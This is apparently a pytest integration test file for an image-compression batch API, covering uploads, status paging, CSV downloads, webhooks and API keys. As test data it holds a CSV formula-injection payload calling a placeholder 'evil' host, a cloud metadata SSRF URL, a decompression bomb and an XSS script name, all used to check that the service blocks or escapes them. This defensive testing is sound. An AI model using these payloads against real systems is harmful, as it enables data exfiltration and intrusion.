"""The main path through the real app and runner: upload -> status -> download -> webhook."""

import csv
import io
import uuid

import pytest
from fastapi.testclient import TestClient
from PIL import Image
from standardwebhooks import Webhook

from app.main import create_app
from tests.conftest import csv_of, upload, wait_finished
from tests.support import images
from tests.support.servers import send
from tests.test_compress import STANDARD_LUMINANCE_TABLE

SECRET = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"


def fetch_output(client: TestClient, output_url: str) -> Image.Image:
    response = client.get(output_url.removeprefix("http://testserver"))
    assert response.status_code == 200
    return Image.open(io.BytesIO(response.content))


def test_batch_end_to_end(make_settings, image_server, webhook_receiver):
    settings = make_settings(webhook_secret=SECRET)
    sizes = [(320, 240), (200, 300), (640, 480)]
    rows = []
    for serial in range(1, 9):
        urls = [image_server.add(images.jpeg(size)) for size in sizes]
        rows.append((serial, f'Product {serial} «ünïcode», "quoted"', urls))
    hook = webhook_receiver.new_url()

    with TestClient(create_app(settings)) as client:
        accepted = upload(client, csv_of(rows), webhook_url=hook)
        assert accepted.status_code == 202
        body = accepted.json()
        assert body["status"] == "pending"
        assert body["total_products"] == 8 and body["total_images"] == 24
        assert accepted.headers["location"] == body["status_url"]
        request_id = body["request_id"]

        status = wait_finished(client, request_id)
        assert status["status"] == "completed"
        assert status["completed_at"] is not None
        assert status["progress"] == {
            "total_images": 24,
            "succeeded_images": 24,
            "processed_images": 24,
            "failed_images": 0,
            "cancelled_images": 0,
            "reused_images": 0,
            "percent": 100.0,
        }
        assert status["download_url"].endswith(f"/download/{request_id}")
        assert [p["serial_number"] for p in status["products"]] == list(range(1, 9))

        outputs = set()
        for product, (_, name, urls) in zip(status["products"], rows, strict=True):
            assert product["product_name"] == name
            assert product["input_image_urls"] == urls
            assert len(product["output_image_urls"]) == 3
            for image, size, output_url in zip(
                product["images"], sizes, product["output_image_urls"], strict=True
            ):
                assert image["status"] == "succeeded" and image["error"] is None
                assert (image["width"], image["height"]) == size
                assert image["output_url"] == output_url
                out = fetch_output(client, output_url)
                assert out.format == "JPEG" and out.size == size
                assert list(out.quantization[0]) == STANDARD_LUMINANCE_TABLE
                outputs.add(output_url)
        assert len(outputs) == 24

        download = client.get(f"/download/{request_id}")
        assert download.status_code == 200
        assert download.headers["content-type"].startswith("text/csv")
        assert "attachment" in download.headers["content-disposition"]
        table = list(csv.reader(io.StringIO(download.text)))
        assert table[0] == ["S. No.", "Product Name", "Input Image Urls", "Output Image Urls"]
        for line, product, (serial, name, urls) in zip(table[1:], status["products"], rows, strict=True):
            assert line == [str(serial), name, ",".join(urls), ",".join(product["output_image_urls"])]

    deliveries = webhook_receiver.wait_for(hook, 1)
    assert len(deliveries) == 1
    delivered = deliveries[0]
    payload = Webhook(SECRET).verify(delivered.body, delivered.headers)
    assert payload["request_id"] == request_id
    assert payload["status"] == "completed"
    assert payload["total_images"] == 24 and payload["processed_images"] == 24
    assert payload["failed_images"] == 0
    assert payload["download_url"].endswith(f"/download/{request_id}")
    assert payload["completed_at"]


def test_failed_images_leave_empty_outputs_and_the_batch_finishes(client, image_server):
    good = image_server.add(images.jpeg())
    missing = image_server.base_url + "/" + uuid.uuid4().hex
    html = image_server.add(b"<html>not an image</html>", content_type="image/jpeg")
    request_id = upload(client, csv_of([(1, "A", [good, missing]), (2, "B", [html])])).json()["request_id"]
    status = wait_finished(client, request_id)
    assert status["status"] == "completed_with_errors"
    assert status["progress"]["processed_images"] == 1
    assert status["progress"]["failed_images"] == 2
    first, second = status["products"]
    assert first["output_image_urls"][0].endswith(".jpg")
    assert first["output_image_urls"][1] == ""
    assert first["images"][1]["error"]["code"] == "http_404"
    assert second["images"][0]["error"]["code"] == "not_an_image"
    table = list(csv.reader(io.StringIO(client.get(f"/download/{request_id}").text)))
    assert table[1][3] == first["output_image_urls"][0] + ","
    assert table[2][3] == ""


def test_a_batch_where_every_image_fails_is_failed(client, image_server):
    missing = image_server.base_url + "/" + uuid.uuid4().hex
    request_id = upload(client, csv_of([(1, "A", [missing])])).json()["request_id"]
    assert wait_finished(client, request_id)["status"] == "failed"


def test_every_kind_of_image_through_the_service(client, image_server):
    kinds = {
        "cmyk": images.cmyk_jpeg(),
        "rotated": images.exif_rotated_jpeg((300, 100)),
        "alpha": images.png_rgba(),
        "grey16": images.png_16bit_grey(),
        "animated": images.animated_gif(),
        "palette": images.palette_gif_transparent(),
        "webp": images.webp(),
        "bmp": images.bmp(),
        "tiff": images.tiff(),
    }
    urls = {
        kind: image_server.add(data, content_type="application/octet-stream") for kind, data in kinds.items()
    }
    request_id = upload(client, csv_of([(1, "All kinds", list(urls.values()))])).json()["request_id"]
    status = wait_finished(client, request_id)
    assert status["status"] == "completed", status["products"][0]["images"]
    results = dict(zip(urls, status["products"][0]["images"], strict=True))
    assert (results["rotated"]["width"], results["rotated"]["height"]) == (100, 300)
    for image in results.values():
        assert fetch_output(client, image["output_url"]).format == "JPEG"


def test_status_pages_products_with_a_cursor(client, image_server):
    url = image_server.add(images.jpeg((32, 32)))
    rows = [(serial, f"P{serial}", [url]) for serial in range(1, 26)]
    request_id = upload(client, csv_of(rows)).json()["request_id"]
    wait_finished(client, request_id)
    seen, cursor, pages = [], None, 0
    while True:
        params = {"limit": 10} | ({"cursor": cursor} if cursor else {})
        body = client.get(f"/status/{request_id}", params=params).json()
        seen += [p["serial_number"] for p in body["products"]]
        pages += 1
        cursor = body["next_cursor"]
        if cursor is None:
            break
    assert seen == list(range(1, 26))
    assert pages == 3


@pytest.mark.parametrize("params", [{"limit": 0}, {"limit": 1001}, {"cursor": "not-a-cursor"}])
def test_bad_paging_parameters_are_problems(client, image_server, params):
    request_id = upload(client, csv_of([(1, "A", [image_server.add(images.jpeg())])])).json()["request_id"]
    response = client.get(f"/status/{request_id}", params=params)
    assert response.status_code == 422
    assert response.headers["content-type"] == "application/problem+json"


def _cursor(text: str) -> str:
    import base64

    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


FOREIGN_CURSORS = [
    "djE6OTk5OTk5OTk5OTk5OTk5OTk5OTk",  # v1:99999999999999999999, more than any id
    _cursor(f"v1:{2**63}"),
    _cursor("v1:0"),
    _cursor("v1:-1"),
    _cursor("v1:007"),
    _cursor("v1:\u0665"),  # an Arabic-Indic digit five
    _cursor("v2:5"),
    _cursor("v1:5") + "==",
    _cursor("v1:5") + "!*",
    "\u00e9t\u00e9",
    "djE6" * 5000,
]


@pytest.mark.parametrize("cursor", FOREIGN_CURSORS)
def test_a_cursor_the_service_did_not_issue_is_a_422_problem(client, image_server, cursor):
    request_id = upload(client, csv_of([(1, "A", [image_server.add(images.jpeg())])])).json()["request_id"]
    for path in (f"/status/{request_id}", "/requests"):
        response = client.get(path, params={"cursor": cursor})
        assert response.status_code == 422, (path, response.text)
        assert response.headers["content-type"] == "application/problem+json"


def test_requests_are_listed_newest_first_and_paged(make_settings, image_server):
    key = uuid.uuid4().hex  # a key of our own: the list shows only this test's requests
    settings = make_settings(api_keys=key)
    headers = {"Authorization": f"Bearer {key}"}
    url = image_server.add(images.jpeg((16, 16)))
    with TestClient(create_app(settings)) as client:
        ids = [
            upload(client, csv_of([(1, "A", [url])]), headers=headers).json()["request_id"] for _ in range(3)
        ]
        first = client.get("/requests", params={"limit": 2}, headers=headers).json()
        assert [item["request_id"] for item in first["items"]] == ids[::-1][:2]
        second = client.get("/requests", params={"limit": 2, "cursor": first["next_cursor"]}, headers=headers)
        assert [item["request_id"] for item in second.json()["items"]] == ids[:1]
        assert second.json()["next_cursor"] is None


def test_requests_lists_only_the_calling_keys_requests(make_settings, image_server):
    url = image_server.add(images.jpeg((16, 16)))
    with TestClient(create_app(make_settings(api_keys="key-one,key-two"))) as client:
        one, two = {"X-API-Key": "key-one"}, {"X-API-Key": "key-two"}
        mine = [upload(client, csv_of([(1, "A", [url])]), headers=one).json()["request_id"] for _ in range(2)]
        theirs = upload(client, csv_of([(1, "B", [url])]), headers=two).json()["request_id"]
        listed = client.get("/requests", headers=one).json()
        assert [item["request_id"] for item in listed["items"]] == mine[::-1]
        assert [item["request_id"] for item in client.get("/requests", headers=two).json()["items"]] == [
            theirs
        ]
        first = client.get("/requests", params={"limit": 1}, headers=two).json()
        assert first["next_cursor"] is None
        page = client.get("/requests", params={"limit": 1}, headers=one).json()
        assert [item["request_id"] for item in page["items"]] == mine[-1:]
        rest = client.get("/requests", params={"limit": 1, "cursor": page["next_cursor"]}, headers=one).json()
        assert [item["request_id"] for item in rest["items"]] == mine[:1] and rest["next_cursor"] is None
        for request_id in mine:
            wait_finished(client, request_id, headers=one)
        wait_finished(client, theirs, headers=two)


FORMULA_NAMES = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A9)", "Shirt = blue"]


def _downloaded_names(client, image_server) -> list[str]:
    url = image_server.add(images.jpeg())
    rows = [(serial, name, [url]) for serial, name in enumerate(FORMULA_NAMES, start=1)]
    request_id = upload(client, csv_of(rows)).json()["request_id"]
    wait_finished(client, request_id)
    table = list(csv.reader(io.StringIO(client.get(f"/download/{request_id}").text)))
    return [row[1] for row in table[1:]]


def test_result_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client, image_server):
    assert _downloaded_names(client, image_server) == [
        "'" + name if name[0] in "=+-@" else name for name in FORMULA_NAMES
    ]


def test_formula_escaping_can_be_turned_off(make_settings, image_server):
    with TestClient(create_app(make_settings(csv_escape_formulas=False))) as client:
        assert _downloaded_names(client, image_server) == FORMULA_NAMES


def test_the_result_csv_holds_every_product_across_its_pages_in_csv_order(client, image_server):
    """2,500 products: three pages of the result CSV's reads (and sends); rows naming one
    URL are copies of its first image, so one fetch serves them all."""
    url = image_server.add(images.jpeg())
    rows = [(serial, f"P{serial}", [url]) for serial in range(1, 2501)]
    request_id = upload(client, csv_of(rows)).json()["request_id"]
    wait_finished(client, request_id)
    table = list(csv.reader(io.StringIO(client.get(f"/download/{request_id}").text)))
    assert table[0] == ["S. No.", "Product Name", "Input Image Urls", "Output Image Urls"]
    assert [(row[0], row[1], row[2]) for row in table[1:]] == [(str(n), f"P{n}", url) for n, _, _ in rows]
    outputs = {row[3] for row in table[1:]}
    assert len(outputs) == 1 and outputs.pop().startswith("http")


@pytest.mark.parametrize("cell", ["=1+2", "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(cell):
    from app.services.csv_input import neutralised

    assert neutralised(cell) == "'" + cell
    assert neutralised("a" + cell) == "a" + cell


def test_unknown_request_is_a_404_problem(client):
    for path in ("/status/nope", "/download/nope", "/requests/nope/webhook-deliveries"):
        response = client.get(path)
        assert response.status_code == 404
        assert response.headers["content-type"] == "application/problem+json"
        problem = response.json()
        assert problem["status"] == 404 and problem["title"] and problem["type"]


def test_download_before_finishing_is_a_409_problem(client, image_server):
    def never(request):
        import time

        time.sleep(3)

    url = image_server.add_handler(never)
    request_id = upload(client, csv_of([(1, "A", [url])])).json()["request_id"]
    response = client.get(f"/download/{request_id}")
    assert response.status_code == 409
    assert response.headers["content-type"] == "application/problem+json"


def test_unknown_route_is_a_problem(client):
    response = client.get("/nowhere")
    assert response.status_code == 404
    assert response.headers["content-type"] == "application/problem+json"


def test_health_checks(client):
    assert client.get("/healthz").json() == {"status": "ok"}
    assert client.get("/readyz").status_code == 200


def test_openapi_documents_the_routes(client):
    spec = client.get("/openapi.json").json()
    for path in ("/upload", "/status/{request_id}", "/download/{request_id}", "/requests", "/healthz"):
        assert path in spec["paths"]
    assert client.get("/docs").status_code == 200


def test_api_keys_guard_routes_and_scope_requests(make_settings, image_server):
    settings = make_settings(api_keys="key-one,key-two")
    url = image_server.add(images.jpeg((16, 16)))
    with TestClient(create_app(settings)) as client:
        refused = upload(client, csv_of([(1, "A", [url])]))
        assert refused.status_code == 401
        assert refused.headers["content-type"] == "application/problem+json"
        assert client.get("/requests", headers={"X-API-Key": "wrong"}).status_code == 401
        mine = upload(client, csv_of([(1, "A", [url])]), headers={"X-API-Key": "key-one"}).json()[
            "request_id"
        ]
        assert client.get(f"/status/{mine}", headers={"Authorization": "Bearer key-one"}).status_code == 200
        # Another key's request is answered as one that does not exist, naming the id asked for.
        for request_id in (mine, "0" * len(mine)):
            others = client.get(f"/status/{request_id}", headers={"X-API-Key": "key-two"})
            assert others.status_code == 404
            assert others.json()["detail"] == f"no request with id {request_id!r}"
        assert client.get("/healthz").status_code == 200
        wait_finished(client, mine, headers={"X-API-Key": "key-one"})


def test_browsers_get_an_html_status_page_with_user_text_escaped(client, image_server):
    url = image_server.add(images.jpeg())
    name = '<script>alert("x")</script> Shoe'
    request_id = upload(client, csv_of([(1, name, [url])])).json()["request_id"]
    wait_finished(client, request_id)
    page = client.get(f"/status/{request_id}", headers={"Accept": "text/html,application/xhtml+xml"})
    assert page.status_code == 200
    assert page.headers["content-type"].startswith("text/html")
    assert "&lt;script&gt;" in page.text and "<script>" not in page.text
    assert "completed" in page.text and f"/download/{request_id}" in page.text
    as_json = client.get(f"/status/{request_id}", params={"format": "json"}, headers={"Accept": "text/html"})
    assert as_json.json()["request_id"] == request_id
    assert client.get(f"/status/{request_id}").headers["content-type"] == "application/json"


def test_format_html_gets_the_status_page_whatever_the_accept_header(client, image_server):
    request_id = upload(client, csv_of([(1, "Boot <b>", [image_server.add(images.jpeg())])])).json()[
        "request_id"
    ]
    wait_finished(client, request_id)
    for accept in ("application/json", "*/*"):
        page = client.get(f"/status/{request_id}", params={"format": "html"}, headers={"Accept": accept})
        assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
        assert "Boot &lt;b&gt;" in page.text and f"/download/{request_id}" in page.text
    assert client.get(f"/status/{request_id}", params={"format": "xml"}).status_code == 422


def test_a_large_upload_on_postgresql_analyzes_its_tables(client, image_server, database_url):
    """10,000 rows of one URL: one download, the rest copies of it."""
    import time

    from sqlalchemy import create_engine, text
    from sqlalchemy.engine import make_url
    from sqlalchemy.pool import NullPool

    if make_url(database_url).get_backend_name() != "postgresql":
        pytest.skip("ANALYZE is for PostgreSQL's planner")
    stats = create_engine(database_url, isolation_level="AUTOCOMMIT", poolclass=NullPool)
    count_query = text("SELECT analyze_count FROM pg_stat_user_tables WHERE relname = 'images'")

    def analyzed() -> int:
        with stats.connect() as connection:
            return connection.scalar(count_query)

    before = analyzed()
    url = image_server.add(images.jpeg((16, 16)))
    response = upload(client, csv_of([(n, f"P{n}", [url]) for n in range(1, 10_001)]))
    assert response.status_code == 202 and response.json()["total_images"] == 10_000
    deadline = time.monotonic() + 30  # the statistics reach other sessions within seconds
    while analyzed() == before and time.monotonic() < deadline:
        time.sleep(0.2)
    assert analyzed() > before
    wait_finished(client, response.json()["request_id"], timeout=120)


def test_hostile_urls_fail_alone_and_private_servers_see_nothing(make_settings, image_server):
    import gzip

    from tests.support.servers import LocalServer, dripping_body, observed

    # No wait for a failing origin (FETCH_RETRY_WINDOW_SECONDS=0): the timeout is final at
    # once, as the other hostile answers are (docs/fetching.md).
    settings = make_settings(
        download_timeout_seconds=1.5, max_image_bytes=2_000_000, fetch_retry_window_seconds=0
    )
    dripping, dripping_run = observed(dripping_body(0.05))  # 50 s to send its body
    with LocalServer() as private, TestClient(create_app(settings)) as client:
        secret = private.add(images.jpeg())
        hostile = {
            "blocked_address": secret,
            "blocked_redirect": image_server.add(b"", status=302, headers={"Location": secret}),
            "timeout": image_server.add_handler(dripping),
            "too_large": image_server.add(
                gzip.compress(b"\0" * 20_000_000), headers={"Content-Encoding": "gzip"}
            ),
            "decompression_bomb": image_server.add(images.png_claiming_size(40000, 40000)),
            "not_an_image": image_server.add(b"<html></html>", content_type="image/jpeg"),
            "corrupt_image": image_server.add(images.jpeg((640, 480))[:3000]),
            "http_404": image_server.base_url + "/missing",
            "metadata": "http://169.254.169.254/latest/meta-data/",
        }
        good = [image_server.add(images.cmyk_jpeg()), image_server.add(images.webp())]
        request_id = upload(client, csv_of([(1, "Good", good), (2, "Hostile", list(hostile.values()))]))
        request_id = request_id.json()["request_id"]
        status = wait_finished(client, request_id)
        # The batch did not wait for the slowest server: its download was cut off by the
        # deadline, and the server saw the connection dropped before it had answered.
        assert dripping_run.ended.wait(10) and not dripping_run.answered_in_full
    assert status["status"] == "completed_with_errors"
    good_images, hostile_images = (p["images"] for p in status["products"])
    assert all(image["status"] == "succeeded" for image in good_images)
    codes = [image["error"]["code"] for image in hostile_images]
    expected = [code if code != "metadata" else "blocked_address" for code in hostile]
    expected[1] = "blocked_address"
    assert codes == expected
    assert all(image["error"]["message"] for image in hostile_images)
    assert private.hits_for(secret) == 0


def test_a_small_batch_is_not_stuck_behind_a_big_one(make_settings, image_server):
    import time

    def slow_image(request):
        time.sleep(0.1)
        data = images.jpeg((32, 32))
        send(request, 200, data, {"Content-Type": "image/jpeg"})

    settings = make_settings(worker_concurrency=2, compress_concurrency=1)
    with TestClient(create_app(settings)) as client:
        slow = [image_server.add_handler(slow_image) for _ in range(40)]
        big = upload(client, csv_of([(n + 1, f"P{n}", [url]) for n, url in enumerate(slow)])).json()[
            "request_id"
        ]
        time.sleep(0.2)
        small = upload(client, csv_of([(1, "S", [image_server.add(images.jpeg((32, 32)))])])).json()[
            "request_id"
        ]
        small_status = wait_finished(client, small)
        big_status = client.get(f"/status/{big}").json()
        assert small_status["status"] == "completed"
        assert big_status["status"] == "processing"  # ~2 s of work left when the small one finished
        wait_finished(client, big)


def test_batches_take_turns_so_none_waits_for_the_others(make_settings, image_server):
    import time

    def slow_image(request):
        time.sleep(0.1)
        send(request, 200, images.jpeg((32, 32)), {"Content-Type": "image/jpeg"})

    def batch(name: str, count: int) -> bytes:
        return csv_of([(n + 1, f"{name}{n}", [image_server.add_handler(slow_image)]) for n in range(count)])

    settings = make_settings(worker_concurrency=2, compress_concurrency=1)
    with TestClient(create_app(settings)) as client:
        first_big = upload(client, batch("A", 40)).json()["request_id"]
        time.sleep(0.2)
        middle = upload(client, batch("B", 3)).json()["request_id"]
        second_big = upload(client, batch("C", 40)).json()["request_id"]
        last = upload(client, batch("D", 3)).json()["request_id"]
        # Half the oldest and half the newest would leave the middle batch for last.
        assert wait_finished(client, middle)["status"] == "completed"
        assert wait_finished(client, last)["status"] == "completed"
        for big in (first_big, second_big):
            assert client.get(f"/status/{big}").json()["status"] == "processing"
        wait_finished(client, first_big)
        wait_finished(client, second_big)


def test_partial_files_are_never_served(client, media_root):
    incoming = media_root / ".incoming"
    incoming.mkdir(parents=True, exist_ok=True)
    (incoming / "123-abc-0.part").write_bytes(b"half a jpeg")
    assert client.get("/processed_images/.incoming/123-abc-0.part").status_code == 404
    assert client.get("/processed_images/%2Eincoming/123-abc-0.part").status_code == 404
